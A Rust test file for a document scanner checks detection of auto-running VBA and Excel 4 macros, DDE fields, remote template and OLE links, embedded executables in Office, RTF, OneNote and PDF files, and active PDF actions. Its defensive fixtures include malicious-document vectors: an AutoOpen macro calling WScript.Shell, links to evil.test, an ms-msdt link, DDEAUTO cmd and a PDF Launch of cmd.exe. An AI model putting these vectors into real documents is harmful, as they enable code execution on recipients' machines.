//! Macros, links and embedded files of documents.

use super::build::{self, record};
use super::{content, facts};
use crate::Class;

const OPENING: &str = "Sub AutoOpen()\r\nSet o = CreateObject(\"WScript.Shell\")\r\nEnd Sub\r\n";

fn word(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut all: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", b"<w:document/>"),
    ];
    all.extend(parts);
    build::zip(&all)
}

#[test]
fn macros_of_old_documents() {
    let quiet = "Function Twice(x)\r\nTwice = x * 2\r\nEnd Function\r\n";
    for (source, expected) in [
        (OPENING, &["macros", "auto_macro"][..]),
        (quiet, &["macros"]),
        ("Sub NotAutoOpenX()\r\nEnd Sub", &["macros"]),
        ("", &[]),
        (
            "Option Explicit\r\n' AutoExec is described here only\r\n",
            &[],
        ),
    ] {
        let octets = build::with_project(source, &[("WordDocument", b"text")]);
        let report = content(&octets);
        assert_eq!(report.kind, "application/msword");
        assert_eq!(facts(&report), expected, "{source:?}");
    }
    let octets = build::with_project(OPENING, &[("WordDocument", b"text")]);
    let words = content(&octets).words;
    assert_eq!(
        words,
        [
            "AutoOpen",
            "CreateObject",
            "Shell",
            "WScript",
            "Wscript.Shell"
        ]
    );
}

#[test]
fn macros_without_a_list_of_modules() {
    let source = format!("Attribute VB_Name = \"x\"\r\n{OPENING}");
    let module = [&b"code"[..], &build::pack(source.as_bytes())].concat();
    let raw = {
        let mut chunk = source.clone().into_bytes();
        chunk.resize(4096, b' ');
        [&b"code\x01\xff\x3f"[..], &chunk].concat()
    };
    for stream in [module, raw] {
        let octets = build::compound(
            [0; 16],
            &[("_VBA_PROJECT", b"x"), ("ThisDocument", &stream)],
        );
        assert_eq!(facts(&content(&octets)), ["macros", "auto_macro"]);
    }
    // Source removed, the identifiers are still there.
    let octets = build::compound([0; 16], &[("_VBA_PROJECT", b"..Document_Open\0..")]);
    assert_eq!(facts(&content(&octets)), ["macros", "auto_macro"]);
}

#[test]
fn macros_of_new_documents() {
    let project = build::with_project(OPENING, &[]);
    let found = ["macros", "auto_macro"];
    assert_eq!(
        facts(&content(&word(&[("word/vbaProject.bin", &project)]))),
        found
    );
    // Under any name.
    assert_eq!(
        facts(&content(&word(&[("word/oops.dat", &project)]))),
        ["macros", "auto_macro", "embedded"]
    );
    // In an archive.
    let inner = word(&[("word/vbaProject.bin", &project)]);
    let report = content(&build::zip(&[("a.docm", &inner)]));
    assert_eq!(facts(&report), found);
    assert_eq!(report.names, ["a.docm"]);
    // Declared only.
    let types =
        b"<Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>";
    let octets = build::zip(&[("[Content_Types].xml", types), ("word/document.xml", b"")]);
    assert_eq!(facts(&content(&octets)), ["macros"]);
}

#[test]
fn excel_4_macros() {
    let bof = record(0x0809, &[0, 6, 0x40, 0, 0, 0, 0, 0]);
    let mut label = vec![0_u8; 16];
    label[0] = 0x20;
    label[15] = 1;
    let automatic = [bof.clone(), record(0x0018, &label)].concat();
    let sheet = record(0x0085, &[0, 0, 0, 0, 2, 1, 0, 0]);
    let plain = record(0x0085, &[0, 0, 0, 0, 2, 0, 0, 0]);
    for (stream, expected) in [
        (automatic, &["macros", "auto_macro"][..]),
        (bof, &["macros"]),
        (sheet, &["macros"]),
        (plain, &[]),
        (record(0x002f, &[0; 4]), &["encrypted"]),
        (record(0x01ae, b"\0\0\x05\0\0cmd\x03x"), &["remote"]),
        (record(0x01ae, b"\0\0\x05\0\0\x01a.xls"), &[]),
    ] {
        let octets = build::compound([0; 16], &[("Workbook", &stream)]);
        assert_eq!(facts(&content(&octets)), expected);
    }
    let book = b"<definedName name=\"_xlnm.Auto_Open\">";
    let octets = build::zip(&[
        ("[Content_Types].xml", b"<a/>"),
        ("xl/workbook.xml", book),
        ("xl/macrosheets/sheet1.xml", b"<a/>"),
    ]);
    assert_eq!(facts(&content(&octets)), ["macros", "auto_macro"]);
}

#[test]
fn relations_to_elsewhere() {
    let relation = |kind: &str, target: &str, mode: &str| {
        format!(
            "<Relationships><Relationship Id=\"a\" Type=\"http://x/relationships/{kind}\" Target=\"{target}\" TargetMode=\"{mode}\"/></Relationships>"
        )
    };
    for (kind, target, mode, remote) in [
        (
            "attachedTemplate",
            "http://evil.test/a.dotm",
            "External",
            true,
        ),
        (
            "oleObject",
            "mhtml:https://evil.test/!x-usc:https://evil.test",
            "External",
            true,
        ),
        ("frame", "\\\\evil.test\\share", "External", true),
        (
            "attachedTemplate",
            "file://///evil.test/a",
            "External",
            true,
        ),
        ("attachedTemplate", "file://evil.test/a", "External", true),
        (
            "attachedTemplate",
            "file:///C:\\Users\\me\\Normal.dotm",
            "External",
            false,
        ),
        ("externalLinkPath", "other.xlsx", "External", false),
        ("hyperlink", "https://example.test/", "External", false),
        ("hyperlink", "ms-msdt:/id", "External", true),
        ("image", "https://example.test/a.png", "External", false),
        (
            "attachedTemplate",
            "http://evil.test/a.dotm",
            "Internal",
            false,
        ),
    ] {
        let part = relation(kind, target, mode);
        let octets = word(&[("word/_rels/settings.xml.rels", part.as_bytes())]);
        assert_eq!(content(&octets).remote, remote, "{kind} {target} {mode}");
    }
}

#[test]
fn dde_fields() {
    for (part, remote) in [
        ("<w:instrText>DDEAUTO c:\\\\x</w:instrText>", true),
        (
            "<w:instrText xml:space='p'> DD</w:instrText><w:instrText>E cmd</w:instrText>",
            true,
        ),
        ("<w:fldSimple w:instr=\"DDEAUTO x\"/>", true),
        ("<w:instrText>DATE</w:instrText>", false),
        ("<w:instrText>DDELTA x</w:instrText>", false),
        ("<w:t>DDEAUTO</w:t>", false),
        (
            "<w:instrText>DD</w:instrText><w:fldChar/><w:instrText>E x</w:instrText>",
            false,
        ),
    ] {
        let octets = word(&[("word/footer1.xml", part.as_bytes())]);
        assert_eq!(content(&octets).remote, remote, "{part}");
    }
    let octets = build::compound([0; 16], &[("WordDocument", b"text\x13 DDEAUTO c:\\x\x15")]);
    assert_eq!(facts(&content(&octets)), ["remote"]);
    let book = build::zip(&[
        ("[Content_Types].xml", b""),
        (
            "xl/externalLinks/externalLink1.xml",
            b"<externalLink><ddeLink ddeService=\"cmd\"/>",
        ),
    ]);
    assert_eq!(facts(&content(&book)), ["remote"]);
}

#[test]
fn passwords_of_documents() {
    let mut word = vec![0_u8; 32];
    word[11] = 1;
    let mut slides = vec![0_u8; 32];
    slides[12..16].copy_from_slice(&0xf3d1_c4df_u32.to_le_bytes());
    for streams in [
        vec![("EncryptionInfo", &b"x"[..]), ("EncryptedPackage", b"x")],
        vec![("WordDocument", word.as_slice())],
        vec![("PowerPoint Document", b"x"), ("Current User", &slides)],
    ] {
        assert_eq!(
            facts(&content(&build::compound([0; 16], &streams))),
            ["encrypted"]
        );
    }
    let manifest = b"<manifest:encryption-data/>";
    let octets = build::zip(&[
        ("mimetype", b"application/vnd.oasis.opendocument.text"),
        ("META-INF/manifest.xml", manifest),
    ]);
    // Not a Java archive: the manifest is another one.
    assert_eq!(content(&octets).class, Class::Office);
    assert_eq!(facts(&content(&octets)), ["encrypted"]);
}

#[test]
fn open_document_macros() {
    let octets = build::zip(&[
        ("mimetype", b"application/vnd.oasis.opendocument.text"),
        ("Basic/Standard/Module1.xml", b"<script:module/>"),
        (
            "content.xml",
            b"<script:event-listener script:event-name=\"dom:load\" xlink:href=\"vnd.sun.star.script:x\"/>",
        ),
    ]);
    assert_eq!(facts(&content(&octets)), ["macros", "auto_macro"]);
}

#[test]
fn embedded_packages() {
    let package = build::package("run.exe", &build::program());
    let old = build::compound(
        [0; 16],
        &[("WordDocument", b"x"), ("\u{1}Ole10Native", &package)],
    );
    let object = build::compound([0; 16], &[("\u{1}Ole10Native", &package)]);
    let new = word(&[("word/embeddings/oleObject1.bin", &object)]);
    for octets in [old, new] {
        let report = content(&octets);
        assert_eq!(facts(&report), ["embedded", "executable_inside"]);
        assert!(report.names.contains(&"run.exe".to_owned()));
    }
}

#[test]
fn rich_text() {
    let hex = |octets: &[u8]| {
        octets
            .iter()
            .map(|octet| format!("{octet:02x}"))
            .collect::<String>()
    };
    let package = build::package("run.exe", &build::program());
    let object = [
        &b"\x01\x05\0\0\x02\0\0\0\x08\0\0\0Package\0\0\0\0\0\0\0\0\0"[..],
        &package,
    ]
    .concat();
    let link = build::compound(
        [0; 16],
        &[(
            "\u{1}Ole",
            b"\xe0\xc9\xea\x79\xf9\xba\xce\x11\x8c\x82\x00\xaa\x00\x4b\xa9\x0b",
        )],
    );
    let link = [
        &b"\x01\x05\0\0\x02\0\0\0\x09\0\0\0OLE2Link\0"[..],
        &[0; 12],
        &link,
    ]
    .concat();
    for (text, expected) in [
        (
            format!(
                "{{\\rtf1 {{\\object\\objemb{{\\*\\objdata {}}}}}}}",
                hex(&object)
            ),
            &["embedded", "executable_inside"][..],
        ),
        (
            format!(
                "{{\\rtf1 {{\\*\\objdata {{junk}}\r\n\\bin {}}}}}",
                hex(&link)
            ),
            &["remote", "embedded"],
        ),
        (
            "{\\rtf1 {\\*\\template http://evil.test/a}}".to_owned(),
            &["remote"],
        ),
        ("{\\rtf1 {\\*\\template C:\\\\a.dot}}".to_owned(), &[]),
        (
            "{\\rtf1 {\\field{\\*\\fldinst {\\b DDEAUTO c:\\\\x}}}}".to_owned(),
            &["remote"],
        ),
        (
            "{\\rtf1 {\\field{\\*\\fldinst HYPERLINK x}}}".to_owned(),
            &[],
        ),
        ("{\\rtf1\\object\\objautlink}".to_owned(), &["remote"]),
    ] {
        assert_eq!(facts(&content(text.as_bytes())), expected, "{:.60}", text);
    }
}

#[test]
fn notebooks() {
    let mut octets = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3".to_vec();
    let picture = octets.len();
    octets.extend(b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac");
    octets.extend(256_u64.to_le_bytes());
    octets.extend([0; 12]);
    octets.extend(build::program());
    let report = content(&octets);
    assert_eq!(report.class, Class::Notebook);
    assert_eq!(facts(&report), ["embedded", "executable_inside"]);
    octets[picture + 36..picture + 44].copy_from_slice(b"\x89PNG\r\n\x1a\n");
    assert!(facts(&content(&octets)).is_empty());
}

#[test]
fn pdf() {
    let objects = |body: &str| {
        let packed = build::zlib(body.as_bytes());
        [
            &b"%PDF-1.7\n5 0 obj <</Type /ObjStm /Filter /FlateDecode /N 1>>\nstream\r\n"[..],
            &packed,
            b"\nendstream",
        ]
        .concat()
    };
    let docm = word(&[("word/vbaProject.bin", &build::with_project(OPENING, &[]))]);
    let file = [
        &b"%PDF-1.7\n5 0 obj <</Type/EmbeddedFile/Filter/FlateDecode>>\nstream\n"[..],
        &build::zlib(&docm),
        b"\nendstream",
    ]
    .concat();
    let plain = |body: &str| format!("%PDF-1.7\n{body}").into_bytes();
    for (octets, expected) in [
        (
            plain("1 0 obj <</OpenAction [3 0 R /Fit] /URI (x)>>"),
            &[][..],
        ),
        (plain("<</S /URI /URI (http://x.test)>>"), &[]),
        (plain("<</JSON 1 /JavaScriptX 2>>"), &[]),
        (plain("<</S/JavaScript/JS(app.alert)>>"), &["active_pdf"]),
        (plain("<</S/J#61va#53cript>>"), &["active_pdf"]),
        (plain("<</S/Launch/F(cmd.exe)>>"), &["active_pdf"]),
        (
            plain("<</OpenAction <</S/URI/URI(http://x.test)>>>>"),
            &["active_pdf"],
        ),
        (
            plain("<</OpenAction 7 0 R>>\n17 0 obj <<>> endobj\n7 0 obj <</S/URI>> endobj"),
            &["active_pdf"],
        ),
        (
            plain("<</OpenAction 7 0 R>>\n7 0 obj <</S/GoTo>> endobj 8 0 obj <</S/URI>>"),
            &[],
        ),
        (plain("trailer <</Encrypt 9 0 R>>"), &["encrypted"]),
        (objects("7 0 <</S /JavaScript /JS (x)>>"), &["active_pdf"]),
        (objects("7 0 8 14 <</S /GoTo >> <</OpenAction 7 0 R>>"), &[]),
        (
            objects("7 0 8 13 <</S /URI >> <</OpenAction 7 0 R>>"),
            &["active_pdf"],
        ),
        (file, &["macros", "auto_macro", "embedded"]),
    ] {
        let shown = String::from_utf8_lossy(&octets)
            .chars()
            .take(70)
            .collect::<String>();
        assert_eq!(facts(&content(&octets)), expected, "{shown:?}");
    }
}
